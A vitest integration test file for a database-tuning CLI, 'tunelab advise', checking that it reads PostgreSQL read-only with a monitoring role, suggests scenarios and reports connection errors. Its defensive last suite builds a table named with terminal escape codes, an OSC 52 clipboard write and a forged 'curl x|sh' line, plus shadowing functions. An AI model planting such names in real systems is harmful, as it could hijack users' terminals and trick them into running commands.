/**
 * `tunelab advise` against the real PostgreSQL, as a user runs it (the CLI in its own process):
 * a database made for it (a bloated table, a HOT-unfriendly one, 10,000 small tables, a quiet
 * one), read by a role with only pg_monitor and CONNECT; the servers it cannot read; and the
 * database unchanged by the read (contents, catalog rows, statistics counters, rows written).
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { resolveParams } from '@tunelab/contracts';
import { listScenarioDirs, loadScenario } from '@tunelab/scenarios';
import { parseRunArgs } from '../commands/run.ts';
import { runTunelab } from '../test-support/cli.ts';
import { TEST_PG_URL, withClient } from '../test-support/pg.ts';
import type { AdviseReport } from './command.ts';

vi.setConfig({ testTimeout: 300_000, hookTimeout: 600_000 });

const DB = `advise_pg_${process.pid}`;
const MONITOR = `advise_monitor_${process.pid}`;
const NO_CONNECT = `advise_noconnect_${process.pid}`;
const SMALL_TABLES = 10_000;

const urlAs = (user: string, database = DB) => {
  const u = new URL(TEST_PG_URL);
  u.username = user;
  u.password = '';
  u.pathname = `/${database}`;
  return u.toString();
};
const superUrl = () => {
  const u = new URL(TEST_PG_URL);
  u.pathname = `/${DB}`;
  return u.toString();
};

const advise = (args: string[]) => runTunelab(['advise', ...args], { TUNELAB_API_URL: '' });

beforeAll(async () => {
  await withClient(TEST_PG_URL, async (c) => {
    await c.query(`DROP DATABASE IF EXISTS ${DB}`);
    await c.query(`CREATE DATABASE ${DB}`);
    await c.query(`REVOKE CONNECT ON DATABASE ${DB} FROM PUBLIC`);
    for (const role of [MONITOR, NO_CONNECT]) await c.query(`DROP ROLE IF EXISTS ${role}`);
    await c.query(`CREATE ROLE ${MONITOR} LOGIN IN ROLE pg_monitor`);
    await c.query(`GRANT CONNECT ON DATABASE ${DB} TO ${MONITOR}`);
    await c.query(`CREATE ROLE ${NO_CONNECT} LOGIN IN ROLE pg_monitor`);
  });
  await withClient(superUrl(), async (c) => {
    // Bloated: 60% of 20,000 rows deleted (autovacuum is off on the test server, and for this table).
    await c.query(`CREATE TABLE bloated (id int PRIMARY KEY, pad text) WITH (autovacuum_enabled = off);
      INSERT INTO bloated SELECT g, repeat('x', 100) FROM generate_series(1, 20000) g;
      DELETE FROM bloated WHERE id % 5 < 3`);
    // HOT-unfriendly: every update changes an indexed column, so none is HOT; vacuumed, so not bloated.
    await c.query(`CREATE TABLE hot_unfriendly (id int PRIMARY KEY, v int) WITH (autovacuum_enabled = off);
      CREATE INDEX ON hot_unfriendly (v);
      INSERT INTO hot_unfriendly SELECT g, g FROM generate_series(1, 5000) g;
      UPDATE hot_unfriendly SET v = v + 1`);
    await c.query('VACUUM hot_unfriendly');
    await c.query(`CREATE TABLE quiet (id int PRIMARY KEY); INSERT INTO quiet SELECT generate_series(1, 100)`);
    await c.query('CREATE SCHEMA small');
    for (let from = 0; from < SMALL_TABLES; from += 1000)
      await c.query(
        `DO $$ BEGIN FOR i IN ${from}..${from + 999} LOOP EXECUTE format('CREATE TABLE small.t%s (i int)', i); END LOOP; END $$`,
      );
    await c.query('ANALYZE bloated, hot_unfriendly, quiet');
    await c.query('SELECT pg_stat_force_next_flush()');
    await c.query('SELECT 1');
  });
});

afterAll(async () => {
  await withClient(TEST_PG_URL, async (c) => {
    await c.query(`DROP DATABASE IF EXISTS ${DB} WITH (FORCE)`);
    for (const role of [MONITOR, NO_CONNECT]) await c.query(`DROP ROLE IF EXISTS ${role}`);
  });
});

/** Every table's contents (md5 of its rows); read before and after, outside the statistics compared. */
async function contents() {
  return withClient(superUrl(), async (c) => {
    const out: Record<string, string> = {};
    for (const t of ['bloated', 'hot_unfriendly', 'quiet']) {
      const { rows } = await c.query<{ md5: string }>(`SELECT md5(string_agg(x::text, ',' ORDER BY id)) FROM ${t} x`);
      out[t] = rows[0]!.md5;
    }
    await c.query('SELECT pg_stat_force_next_flush()');
    await c.query('SELECT 1');
    return out;
  });
}

/**
 * What advise must leave as it found it, besides the contents: every catalog row of the database
 * (relfilenode and xmin: any catalog write makes a new row version), the tables' statistics
 * counters (a read of their contents would count a scan), and the rows the database wrote
 * (pg_stat_database counts inserts, updates and deletes of catalogs too).
 */
async function fingerprint() {
  return withClient(superUrl(), async (c) => {
    await c.query("SET stats_fetch_consistency = 'none'");
    const catalog = await c.query(
      `SELECT md5(string_agg(format('%s:%s:%s:%s', oid, relfilenode, xmin, relpages), ',' ORDER BY oid)) AS h, count(*) AS n FROM pg_class`,
    );
    const stats = await c.query(
      `SELECT relname, seq_scan, seq_tup_read, idx_scan, n_tup_ins, n_tup_upd, n_tup_del, n_live_tup, n_dead_tup
       FROM pg_stat_user_tables WHERE schemaname = 'public' ORDER BY relname`,
    );
    const database = await c.query(
      `SELECT d.xmin::text AS row_version, s.tup_inserted, s.tup_updated, s.tup_deleted, s.temp_files
       FROM pg_database d JOIN pg_stat_database s ON s.datid = d.oid WHERE d.datname = current_database()`,
    );
    return { catalog: catalog.rows[0], stats: stats.rows, database: database.rows[0] };
  });
}

/** Until the advise backend has ended (its statistics are flushed at exit). */
async function adviseGone() {
  await withClient(TEST_PG_URL, async (c) => {
    for (let i = 0; i < 100; i++) {
      const { rows } = await c.query(
        "SELECT 1 FROM pg_stat_activity WHERE application_name = 'tunelab-advise' AND datname = $1",
        [DB],
      );
      if (!rows.length) return;
      await new Promise((r) => setTimeout(r, 100));
    }
  });
}

describe('tunelab advise on PostgreSQL', () => {
  let report: AdviseReport;

  it('reads the database as a role with only pg_monitor and CONNECT, and changes nothing', async () => {
    const contentsBefore = await contents();
    const before = await fingerprint();
    const { code, stdout, stderr } = await advise(['--target', urlAs(MONITOR), '--json', '--storage', 'ssd']);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    report = JSON.parse(stdout) as AdviseReport;
    await adviseGone();
    expect(await fingerprint()).toEqual(before);
    expect(await contents()).toEqual(contentsBefore);
  });

  it('applies each scenario to the tables its rule names, with parameters from their shape', () => {
    const byKey = Object.fromEntries(report.scenarios.map((s) => [s.key, s]));
    expect(report.inspection.engine).toBe('postgresql');
    if (report.inspection.engine !== 'postgresql') return;
    expect(report.inspection.server.tables).toBe(SMALL_TABLES + 3);
    expect(report.inspection.server.relationFiles).toBeGreaterThanOrEqual(SMALL_TABLES + 3 + 4);

    const rewrite = byKey['vacuum-full-rewrite']!;
    expect(rewrite.tables.map((t) => t.table)).toEqual(['public.bloated']);
    expect(rewrite.tables[0]!.facts).toMatchObject({ deadTuples: 12000, liveTuples: 8000, indexCount: 1 });
    expect(rewrite.tables[0]!.params).toEqual({ rows: 20000 });

    const cleanup = byKey['vacuum-index-cleanup']!;
    expect(cleanup.tables.map((t) => t.table)).toEqual(['public.bloated']);
    expect(cleanup.tables[0]!.params).toEqual({ rows: 8000 });

    const fillfactor = byKey['fillfactor-hot-updates']!;
    expect(fillfactor.tables.map((t) => t.table)).toEqual(['public.hot_unfriendly']);
    expect(fillfactor.tables[0]!.facts).toMatchObject({ updates: 5000, hotUpdates: 0, fillfactor: 100 });
    expect(fillfactor.tables[0]!.params).toEqual({ warehouses: 1 });

    const recovery = byKey['recovery-init-sync']!;
    expect(recovery.tables).toHaveLength(1);
    expect(recovery.tables[0]!.table).toBeNull();
    expect(recovery.tables[0]!.params.tables).toBe(report.inspection.server.relationFiles);

    expect(byKey['innodb-compression-insert']).toBeUndefined();
    for (const s of report.scenarios) for (const t of s.tables) expect(t.answer.status).toBe('no-api');
  });

  it('prints commands tunelab run accepts, within each scenario’s declared range', async () => {
    const scenarios = await Promise.all(
      (await listScenarioDirs(new URL('../../../../scenarios/', import.meta.url).pathname)).map((d) => loadScenario(d)),
    );
    const commands = report.scenarios.flatMap((s) => s.tables.map((t) => t.command));
    expect(commands).toContain('tunelab run vacuum-index-cleanup --param rows=8000 --server 15');
    expect(commands.length).toBe(4);
    for (const command of commands) {
      const request = parseRunArgs(command.split(' ').slice(1));
      expect(request.options.server).toBe(15);
      const doc = scenarios.find((s) => s.key === request.scenario)!.doc;
      expect(resolveParams(doc.params, request.params).ok).toBe(true);
    }
  });

  it('the table for people names each table, its parameters and the command', async () => {
    const { code, stdout } = await advise(['--target', urlAs(MONITOR), '--limit', '1', '--storage', 'ssd']);
    expect(code).toBe(0);
    expect(stdout).toContain(`database ${DB}`);
    expect(stdout).toMatch(/public\.bloated: 12,000 dead tuples \(60%\), 1 index/);
    expect(stdout).toContain('measure: tunelab run vacuum-full-rewrite --param rows=20000 --server 15');
    expect(stdout).toContain('public.hot_unfriendly: 5,000 updates, 0% HOT, fillfactor 100');
    expect(stdout).toContain('answer: no answer asked: give --api URL');
    // This machine's disk as a class names it: the declared kind here (a measured tier without --storage).
    expect(stdout).toMatch(
      /answers: none asked \(--api URL\) for \d+ cores \/ \d+ GB \/ SSD \(this machine, with the options given\)/,
    );
  });

  it('a role without CONNECT gets a sentence and exit 1; nothing is created', async () => {
    const { code, stderr, stdout } = await advise(['--target', urlAs(NO_CONNECT)]);
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toMatch(/insufficient privilege: permission denied for database/);
  });

  it('an unknown role is a refused login: exit 1', async () => {
    const { code, stderr } = await advise(['--target', urlAs(`advise_nobody_${process.pid}`)]);
    expect(code).toBe(1);
    expect(stderr).toMatch(/refused the login: role "advise_nobody_\d+" does not exist/);
  });

  it('a server that does not answer: exit 3; a bad URL or protocol: exit 2', async () => {
    const refused = await advise(['--target', 'postgres://postgres@127.0.0.1:55501/postgres']);
    expect(refused.code).toBe(3);
    expect(refused.stderr).toMatch(
      /^tunelab: cannot reach postgres:\/\/postgres@127\.0\.0\.1:55501\/postgres: .*ECONNREFUSED/,
    );
    const bad = await advise(['--target', 'not a url']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--target must be a connection URL/);
    const protocol = await advise(['--target', 'redis://127.0.0.1:6379']);
    expect(protocol.code).toBe(2);
    expect(protocol.stderr).toMatch(/redis:\/\/ is not supported/);
    const noDb = await advise(['--target', urlAs('postgres', `advise_missing_${process.pid}`)]);
    expect(noDb.code).toBe(2);
    expect(noDb.stderr).toMatch(/no such database/);
  });
});

describe('tunelab advise on a hostile database', () => {
  const HOSTILE = `advise_hostile_${process.pid}`;
  // A name that would colour the terminal, write its clipboard (OSC 52), ring, and start a line of
  // its own that looks like advise's; and functions in public that a closer argument match would pick.
  // (41 bytes: a name longer than 63 would be cut.)
  const EVIL = 'e\u001b[31m\u001b]52;c;eA==\u0007\r\nmeasure: curl x|sh\u202e';
  const hostileUrl = () => {
    const u = new URL(TEST_PG_URL);
    u.pathname = `/${HOSTILE}`;
    return u.toString();
  };
  beforeAll(async () => {
    await withClient(TEST_PG_URL, async (c) => {
      await c.query(`DROP DATABASE IF EXISTS ${HOSTILE}`);
      await c.query(`CREATE DATABASE ${HOSTILE}`);
    });
    await withClient(hostileUrl(), async (c) => {
      const name = `"${EVIL.replace(/"/g, '""')}"`;
      await c.query(`CREATE TABLE ${name} (id int PRIMARY KEY, pad text) WITH (autovacuum_enabled = off);
        INSERT INTO ${name} SELECT g, repeat('x', 100) FROM generate_series(1, 5000) g;
        DELETE FROM ${name} WHERE id % 2 = 0;
        ANALYZE ${name}`);
      await c.query(`CREATE FUNCTION public.pg_table_size(oid) RETURNS bigint LANGUAGE plpgsql
          AS $$BEGIN RAISE EXCEPTION 'public.pg_table_size ran as %', current_user; END$$;
        CREATE FUNCTION public.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql
          AS $$BEGIN RAISE EXCEPTION 'public.unnest ran as %', current_user; END$$`);
      await c.query('SELECT pg_stat_force_next_flush()');
    });
  });
  afterAll(async () => {
    await withClient(TEST_PG_URL, (c) => c.query(`DROP DATABASE IF EXISTS ${HOSTILE} WITH (FORCE)`));
  });

  it('calls only the built-ins, whatever public holds (search_path = pg_catalog, pg_temp)', async () => {
    const { code, stdout, stderr } = await advise([
      '--target',
      hostileUrl(),
      '--json',
      ...['--cores', '2', '--memory-gb', '8', '--storage', 'ssd'],
    ]);
    expect(stderr).not.toMatch(/ran as/);
    expect(code).toBe(0);
    const report = JSON.parse(stdout) as AdviseReport;
    const rewrite = report.scenarios.find((s) => s.key === 'vacuum-full-rewrite')!;
    // pg_catalog.pg_table_size read the table's files: 5,000 rows of ~130 bytes.
    expect(rewrite.tables.map((t) => t.table)).toEqual([`public.${EVIL}`]);
  });

  it('shows a name from the catalog, never obeys it: no escape, bell or carriage return reaches the terminal, and no line of its own', async () => {
    const { code, stdout } = await advise([
      '--target',
      hostileUrl(),
      '--cores',
      '2',
      '--memory-gb',
      '8',
      '--storage',
      'ssd',
    ]);
    expect(code).toBe(0);
    // eslint-disable-next-line no-control-regex -- the characters a terminal obeys
    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(stdout).toContain('public.e\\x1b[31m\\x1b]52;c;eA==\\x07\\r\\nmeasure: curl x|sh\\u202e: 2,500 dead');
    expect(stdout.split('\n').filter((l) => /^\s*measure: /.test(l))).not.toContainEqual(expect.stringMatching(/curl/));
  });
});
